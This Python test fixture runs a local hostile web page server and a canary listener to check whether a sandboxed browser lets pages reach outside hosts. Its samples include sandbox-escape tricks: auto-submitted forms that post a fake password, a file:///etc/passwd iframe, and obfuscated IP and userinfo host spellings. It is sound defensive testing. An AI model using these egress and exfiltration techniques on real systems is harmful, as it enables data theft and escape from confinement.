"""A hostile "seller center" that tries every way out, and a canary that counts who got out.

`Canary` is a TCP server that counts accepted connections (and keeps the first bytes of
each): it stands for any host outside the site. `EscapeSite` serves one page per escape
case, each pointing at the canary; pages write "Settled" once their attempts are made.
"""

from __future__ import annotations

import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

SETTLE = "<p id=state>…</p><script>setTimeout(() => state.textContent = 'Settled', 1200)</script>"


class Canary:
    """Counts every TCP connection it accepts (0 is the only good number)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.hits: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                self.hits.append(conn.recv(200))
            except OSError:
                self.hits.append(b"")
            conn.close()

    def close(self) -> None:
        self.sock.close()


def cases(c: str, cport: int, site_port: int) -> dict[str, str]:
    """Escape case -> page body. `c` is the canary's URL."""
    return {
        "redirect_navigation": "",  # the recipe opens /r302?to=... itself
        "redirect_image": f'<img src="/r302?to={c}/img.png">',
        "redirect_post": (
            f'<form method=post action="/r307?to={c}/login">'
            '<input name=password value="hunter2-canary"><button>Sign in</button></form>'
        ),
        "subresources": (
            f'<img src="{c}/a.png"><script src="{c}/a.js"></script>'
            f'<link rel=stylesheet href="{c}/a.css">'
            f"<style>@font-face {{font-family: x; src: url({c}/f.woff)}} "
            f"body {{font-family: x; background: url({c}/bg.png)}}</style>"
        ),
        "fetch_xhr_beacon": (
            f"<script>fetch('{c}/fetch').catch(() => 0);"
            f"const x = new XMLHttpRequest(); x.open('GET', '{c}/xhr'); x.send();"
            f"navigator.sendBeacon('{c}/beacon', 'x');</script>"
        ),
        "websocket": f"<script>try {{ new WebSocket('ws://127.0.0.1:{cport}/ws') }} catch (e) {{}}"
        "</script>",
        "shared_worker": "<script>new SharedWorker('/shared.js')</script>",
        "dedicated_worker": "<script>new Worker('/worker.js')</script>",
        "service_worker": (
            "<p id=sw>?</p><script>navigator.serviceWorker.register('/sw.js')"
            ".then(() => sw.textContent = 'registered', e => sw.textContent = 'refused')</script>"
        ),
        "popup": f"<script>window.open('{c}/popup')</script>",
        "iframe": f'<iframe src="{c}/frame"></iframe>',
        "resource_hints": (
            f'<link rel=prefetch href="{c}/prefetch"><link rel=preconnect href="{c}">'
            f'<link rel=dns-prefetch href="{c}"><link rel=preload as=script href="{c}/pre.js">'
        ),
        "meta_refresh": f'<meta http-equiv=refresh content="0;url={c}/refresh">',
        "form_action": (
            f'<form id=f method=post action="{c}/collect"><input name=q value=1></form>'
            "<script>f.submit()</script>"
        ),
        "ip_encodings": "".join(
            f'<img src="http://{host}:{cport}/ip.png">'
            for host in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]")
        ),
        # Chromium itself drops subresources with credentials in the URL; a popup carries them
        "userinfo": (
            f'<img src="http://user:pw@127.0.0.1:{cport}/u2.png">'
            f"<script>window.open('http://127.0.0.1:{site_port}@127.0.0.1:{cport}/u')</script>"
        ),
        "host_spelling": (
            f'<img src="http://LOCALHOST:{cport}/up.png"><img src="http://localhost.:{cport}/dot.png">'
        ),
        "schemes": (
            f"<iframe src=\"data:text/html,<img src='{c}/data.png'>\"></iframe>"
            '<iframe src="file:///etc/passwd"></iframe>'
            "<a id=js href=\"javascript:location='" + c + "/js'\">x</a>"
        ),
        "other_scheme_and_port": (
            f'<img src="https://127.0.0.1:{site_port}/tls.png">'
            f'<img src="http://127.0.0.1:{cport + 1}/">'
        ),
        "url_in_page_text": f"<p>Next page: <span id=next>{c}/next</span></p>",
    }


class EscapeSite:
    def __init__(self, canary: Canary) -> None:
        self.canary = canary
        self.requests: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _send(
                self, status: int, body: str = "", ctype: str = "text/html", **h: str
            ) -> None:
                data = body.encode()
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                for name, value in h.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                site.requests.append(f"GET {self.path}")
                url = urlsplit(self.path)
                to = parse_qs(url.query).get("to", [""])[0]
                c = site.canary.url
                if url.path == "/r302":
                    self._send(302, Location=to)
                elif url.path == "/shared.js" or url.path == "/worker.js":
                    js = f"fetch('{c}/from-worker').catch(() => 0);"
                    if url.path == "/worker.js":
                        js += f"try {{ importScripts('{c}/imported.js') }} catch (e) {{}}"
                    self._send(200, js, "text/javascript")
                elif url.path == "/sw.js":
                    self._send(200, f"fetch('{c}/from-sw').catch(() => 0);", "text/javascript")
                elif url.path.startswith("/case/"):
                    name = url.path.removeprefix("/case/")
                    body = cases(c, site.canary.port, site.port).get(name)
                    if body is None:
                        self._send(404, "no such case")
                    else:
                        self._send(200, f"<!doctype html><title>{name}</title>{body}{SETTLE}")
                else:
                    self._send(200, "<!doctype html><title>home</title><p>home</p>")

            def do_POST(self) -> None:
                site.requests.append(f"POST {self.path}")
                url = urlsplit(self.path)
                to = parse_qs(url.query).get("to", [""])[0]
                if url.path == "/r307":
                    self._send(307, Location=to)
                else:
                    self._send(200, "ok")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
